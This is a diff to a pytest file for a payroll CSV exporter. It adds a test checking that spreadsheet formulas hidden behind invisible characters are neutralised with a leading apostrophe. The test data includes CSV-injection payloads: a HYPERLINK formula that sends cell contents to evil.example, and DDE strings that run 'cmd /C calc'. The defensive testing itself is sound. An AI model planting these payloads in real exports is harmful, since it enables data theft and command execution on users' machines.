@@ -6,10 +6,14 @@ Each test is a file or a setting an agency really has that once went wrong.
 from __future__ import annotations
 
 import codecs
+import csv
+import datetime as dt
 import json
 
 import pytest
 from test_cli_connectors import one_line_error, tc
+
+from api.services import clocking, cost_codes, departments
 
 
 def test_a_payroll_folder_that_is_a_file_is_one_plain_error_line(tmp_path):
@@ -113,3 +117,35 @@ def test_a_worker_whose_reference_holds_an_unreadable_byte_is_not_deactivated(tm
     assert run["counts"]["deactivated"] == 1
     deactivated = [line for line in run["log"] if "deactivated (not in the file)" in line]
     assert len(deactivated) == 1 and "E3 Cat Jones" in deactivated[0]
+
+
+# --- spreadsheet formulas behind invisible characters ----------------------------------------
+
+HIDDEN_FORMULAS = ["\u2066=HYPERLINK(\"https://evil.example/?\"&A1,\"Payslip\")",
+                   "\u00ad@SUM(1+1)*cmd|' /C calc'!A0", "\ufe62cmd|' /C calc'!A0",
+                   "\u180e-2+3", "\ufe66HYPERLINK(A1)"]
+
+
+def test_a_formula_behind_an_invisible_character_is_never_live_in_a_payroll_file(
+        config, account, make_location, make_worker, tmp_path):
+    dept = departments.create_department(account.id, departments.DepartmentCreate(
+        name=HIDDEN_FORMULAS[1]))
+    code = cost_codes.create_cost_code(account.id, cost_codes.CostCodeCreate(
+        code=HIDDEN_FORMULAS[2], name="Formula"))
+    yard = make_location(account.id, HIDDEN_FORMULAS[3])
+    named = make_worker(account.id, HIDDEN_FORMULAS[0], "Nowak", employee_ref=HIDDEN_FORMULAS[4],
+                        department_id=dept.id, location_id=yard.id)
+    start = dt.datetime(2026, 3, 3, 6, tzinfo=dt.UTC)
+    clocking.record_entry(account.id, named.id, yard.id, start, start + dt.timedelta(hours=4),
+                          cost_code_id=code.id)
+    tc(config.data_dir, "connectors", "run", "payroll-csv", "--account", str(account.id),
+       "--set", "period=custom", "--set", "date_from=2026-03-02", "--set", "date_to=2026-03-08",
+       "--set", f"output_dir={tmp_path / 'out'}")
+    files = sorted((tmp_path / "out").glob("payroll_*.csv"))
+    assert len(files) == 3
+    cells = [cell for path in files
+             for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row]
+    hidden = [cell for cell in cells if cell.lstrip("'") in (*HIDDEN_FORMULAS,
+                                                             f"{HIDDEN_FORMULAS[0]} Nowak")]
+    assert len(hidden) == 8  # the daily line's five; ref and name in worker totals; cost code
+    assert all(cell.startswith("'") for cell in hidden), hidden
